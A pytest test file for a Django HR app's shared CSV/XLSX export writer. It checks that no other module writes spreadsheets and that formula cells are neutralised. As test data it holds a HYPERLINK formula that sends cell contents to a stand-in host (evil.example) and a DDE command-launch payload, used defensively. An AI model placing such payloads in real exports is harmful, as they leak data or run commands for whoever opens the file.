"""One shared export writer (hrops.exports) for every CSV and XLSX file, and no module that
writes spreadsheets any other way (issue 12: the directory export carried live formulas)."""

import ast
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from hrops import exports
from tests.factories import EmployeeFactory

ROOT = Path(__file__).resolve().parents[2]
WRITER = ROOT / "hrops" / "exports.py"
SKIP_DIRS = {"tests", ".venv", "node_modules", "migrations", "static", ".git"}
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"
WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook")}


def _project_modules() -> list[Path]:
    return [p for p in ROOT.rglob("*.py")
            if not SKIP_DIRS & set(p.relative_to(ROOT).parts) and p != WRITER]


def _spreadsheet_writes(tree: ast.AST) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if (isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name)
                and (node.value.id, node.attr) in WRITERS):
            found.append(f"{node.value.id}.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] in {"openpyxl", "xlsxwriter"}:
                names = {a.name for a in node.names}
                if names - {"load_workbook"}:  # reading an uploaded workbook is fine
                    found.append(f"from {node.module} import {', '.join(sorted(names))}")
            if node.module == "csv" and {a.name for a in node.names} & {"writer", "DictWriter"}:
                found.append("from csv import writer")
        if isinstance(node, ast.Import) and any(a.name == "xlsxwriter" for a in node.names):
            found.append("import xlsxwriter")
    return found


def test_no_module_writes_csv_or_xlsx_except_the_shared_writer():
    # given: every Python module of the project (tests and migrations aside)
    offenders = {}
    for path in _project_modules():
        hits = _spreadsheet_writes(ast.parse(path.read_text(), filename=str(path)))
        if hits:
            offenders[str(path.relative_to(ROOT))] = hits
    # then: only hrops/exports.py writes spreadsheets
    assert offenders == {}


def test_the_bypass_check_catches_a_direct_writer():
    # given / when / then: the scan is not vacuous
    assert _spreadsheet_writes(ast.parse("import csv\nw = csv.writer(f)")) == ["csv.writer"]
    assert _spreadsheet_writes(ast.parse("from openpyxl import Workbook")) != []
    assert _spreadsheet_writes(ast.parse("from openpyxl import load_workbook")) == []


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", ATTACK, DDE])
def test_formula_cells_are_neutralised_in_csv(text):
    # when
    out = exports.to_csv([[text, Decimal("-12.50"), 3]], bom=False, decimal_places=2)
    # then: the text starts with an apostrophe; numbers stay numbers (a negative too)
    line = out.decode()
    assert line.startswith(('"\'', "'"))
    assert ",-12.50,3\r\n" in line


def test_xlsx_cells_are_text_never_formulas():
    from openpyxl import load_workbook

    # when
    data = exports.to_xlsx([["Name", "Amount"], [ATTACK, Decimal("5.00")]])
    # then
    sheet = load_workbook(io.BytesIO(data)).active
    name, amount = sheet["A2"], sheet["B2"]
    assert name.data_type == "s" and name.value == "'" + ATTACK
    assert amount.data_type == "n"


@pytest.mark.django_db
def test_directory_export_neutralises_formulas(client, hr_admin):
    from openpyxl import load_workbook

    from tests.downloads import built_file
    from tests.mfa import enrol_totp

    # given: a name that is a formula
    EmployeeFactory(legal_first_name=ATTACK, legal_last_name=DDE)
    enrol_totp(hr_admin)
    client.force_login(hr_admin)
    # when
    csv_text = b"".join(client.get(reverse("employees:directory_export", args=["csv"]))
                        .streaming_content).decode("utf-8-sig")
    xlsx = built_file(client, client.get(reverse("employees:directory_export", args=["xlsx"])))
    # then: no cell starts with a formula character
    assert "'" + ATTACK.replace('"', '""') in csv_text
    assert "\n" + "=" not in csv_text and ",=" not in csv_text
    cells = [c for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == "'" + ATTACK for c in cells)
